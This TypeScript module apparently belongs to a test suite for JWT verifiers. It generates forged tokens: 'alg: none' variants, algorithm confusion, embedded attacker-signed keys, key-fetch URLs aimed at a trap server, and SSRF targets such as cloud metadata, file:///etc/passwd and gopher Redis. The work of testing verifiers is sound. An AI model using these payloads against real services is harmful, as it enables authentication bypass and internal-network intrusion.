// Lines 1, 2, 11, 12, 15 and 16: headers that would choose the algorithm, bring the key or change the rules.

import type { Attack } from './attack.js'
import {
  type Altered,
  altered,
  encode,
  type Forged,
  forged,
  promoted,
  signed,
  signers,
} from './tokens-forging.js'

const none: readonly unknown[] = [
  ...['none', 'None', 'NONE', 'nOnE', 'noNe', 'none ', ' none', 'none\n', 'none\0', 'n\u043ene', 'ｎｏｎｅ'],
  ...['', 'null', 'undefined', null, false, 0, undefined, [], {}, ['none'], { none: true }],
]
const algorithms: readonly string[] = [
  ...['EdDSA', 'ES256', 'RS256', 'HS256', 'Ed25519', 'Ed448', 'ES384', 'ES512', 'ES256K', 'RS384', 'RS512'],
  ...['PS256', 'HS384', 'HS512', 'A256KW', 'dir', 'RSA-OAEP', 'eddsa', 'EDDSA', 'EdDSA ', 'es256', 'hs256'],
  ...['Hs256', 'HS256\0', 'RS256,HS256', '__proto__', 'constructor', 'toString'],
]

const unsigned: readonly Forged[] = [
  {
    line: '1',
    what: 'alg none, in every spelling, and no signature',
    tokens: (given) =>
      none.flatMap((alg) => {
        const input = `${encode({ ...given.header, alg })}.${encode(promoted(given))}`
        return [`${input}.`, input, `${input}..`]
      }),
  },
  {
    line: '1',
    what: 'alg none without a kid or a type',
    tokens: (given) =>
      [{ alg: 'none' }, { alg: 'none', typ: 'at+jwt' }, { alg: 'none', kid: given.header.kid }, {}].flatMap(
        (header) => [
          `${encode(header)}.${encode(promoted(given))}.`,
          `${encode(header)}.${encode(given.payload)}.${given.signature}`,
        ],
      ),
  },
]

const spelt: readonly Altered[] = [
  {
    line: '2',
    what: 'alg none, in every spelling, over a real signature',
    parts: ({ header }) => none.map((alg) => ({ header: { ...header, alg } })),
  },
  {
    line: '2',
    what: "another algorithm's name over a real signature",
    parts: ({ header }) =>
      algorithms
        .filter((alg) => alg !== header.alg)
        .flatMap((alg) => [{ header: { ...header, alg } }, { header: { ...header, alg: [alg] } }]),
  },
  {
    line: '11',
    what: 'the key comes along as jwk, x5c or x5t',
    parts: ({ header, keys }) =>
      [
        { jwk: signers.EdDSA.jwk },
        { jwk: { ...signers.EdDSA.jwk, kid: header.kid, use: 'sig', alg: header.alg } },
        { jwk: keys[0] ?? { kty: 'oct', k: 'AAAA' } },
        { jwk: { kty: 'oct', k: 'AAAA' } },
        { jwk: null },
        { x5c: [Buffer.from(JSON.stringify(signers.EdDSA.jwk)).toString('base64')] },
        { x5c: [] },
        { x5t: 'AAAA' },
        { 'x5t#S256': 'AAAA' },
      ].map((more) => ({ header: { ...header, ...more } })),
  },
  {
    line: '12',
    what: 'the key is to be fetched: jku, x5u',
    parts: ({ header, payload, trap }) =>
      [
        ...[
          `${trap}/jwks.json`,
          `${payload.iss}@${trap.slice('http://'.length)}/`,
          `${trap}/.well-known/jwks.json`,
        ],
        ...['http://169.254.169.254/latest/meta-data/', 'http://[::ffff:127.0.0.1]/', 'http://localhost/'],
        ...[
          'file:///etc/passwd',
          'data:application/json,{"keys":[]}',
          'gopher://127.0.0.1:6379/_x',
          '//127.0.0.1/',
        ],
        `${payload.iss}/.well-known/jwks.json`,
      ].flatMap((url) =>
        ['jku', 'x5u', 'url', 'iss'].map((name) => ({ header: { ...header, [name]: url } })),
      ),
  },
  {
    line: '12',
    what: 'the kid or the issuer is where to fetch the key',
    parts: ({ header, payload, trap }) => [
      { header: { ...header, kid: `${trap}/jwks.json` } },
      { header: { ...header, kid: `${trap}/x`, jku: `${trap}/x` }, payload: { ...payload, iss: trap } },
      { payload: { ...payload, iss: trap } },
      { payload: { ...payload, iss: `${trap}/`, jwks_uri: `${trap}/jwks.json` } },
    ],
  },
  {
    line: '15',
    what: 'a crit that nobody knows, or of another form',
    parts: ({ header }) =>
      [
        { crit: ['exp'], exp: 9_999_999_999 },
        { crit: ['x'], x: 1 },
        { crit: ['x'] },
        { crit: [] },
        { crit: ['alg'] },
        { crit: ['kid', 'typ', 'alg'] },
        { crit: ['b64', 'b64'], b64: true },
        { crit: ['__proto__'] },
        { crit: 'exp' },
        { crit: null },
        { crit: {} },
        { crit: [null] },
        { crit: [['b64']] },
        { crit: ['http://example.com/UNDEFINED'], 'http://example.com/UNDEFINED': true },
      ].map((more) => ({ header: { ...header, ...more } })),
  },
  {
    line: '15',
    what: 'a member in the header that is not needed',
    parts: ({ header, payload }) =>
      [
        { cty: 'JWT' },
        { iss: payload.iss, sub: payload.sub, aud: payload.aud },
        { exp: payload.exp },
        { constructor: 'x' },
        { ALG: 'none' },
        { x: 1 },
        { '': '' },
        { nonce: 'x' },
        { ppt: 'shaken' },
      ].map((more) => ({ header: { ...header, ...more } })),
  },
  {
    line: '16',
    what: 'b64: false, or anything else about it',
    parts: ({ header }) =>
      [
        { b64: false, crit: ['b64'] },
        { b64: false },
        { b64: true, crit: ['b64'] },
        { b64: true },
        { b64: 'false' },
        { b64: null },
        { b64: 0 },
        { crit: ['b64'] },
      ].map((more) => ({ header: { ...header, ...more } })),
  },
]

const keyed: readonly Forged[] = [
  {
    line: '11',
    what: "the attacker's key comes along, signs, and is named in all ways",
    tokens: (given) =>
      (['EdDSA', 'ES256'] as const).flatMap((alg) => {
        const { jwk, sign } = signers[alg]
        const full = { ...jwk, alg, use: 'sig', kid: given.header.kid }
        return [
          { ...given.header, alg, jwk: full },
          { ...given.header, alg, jwk },
          { ...given.header, alg, kid: undefined, jwk: full },
          { ...given.header, alg, kid: 'mine', jwk: { ...jwk, kid: 'mine' } },
          { ...given.header, alg, jwk, crit: ['jwk'] },
          { ...given.header, alg, jwks: { keys: [full] } },
          { ...given.header, alg, kid: JSON.stringify(full) },
        ].map((header) => signed({ header, payload: promoted(given) }, given, sign))
      }),
  },
  {
    line: '16',
    what: 'claims as they are, or apart, with b64: false',
    tokens: (given) => {
      const head = encode({ ...given.header, b64: false, crit: ['b64'] })
      const raw = JSON.stringify(given.payload)
      return [
        `${head}.${raw}.${given.signature}`,
        `${head}.${raw.replaceAll(/\W/g, '')}.${given.signature}`,
        `${head}..${given.signature}`,
        `${given.head}..${given.signature}`,
        `${given.head}.${raw}.${given.signature}`,
      ]
    },
  },
]

export const tokensHeaders: readonly Attack[] = [...forged(unsigned), ...altered(spelt), ...forged(keyed)]
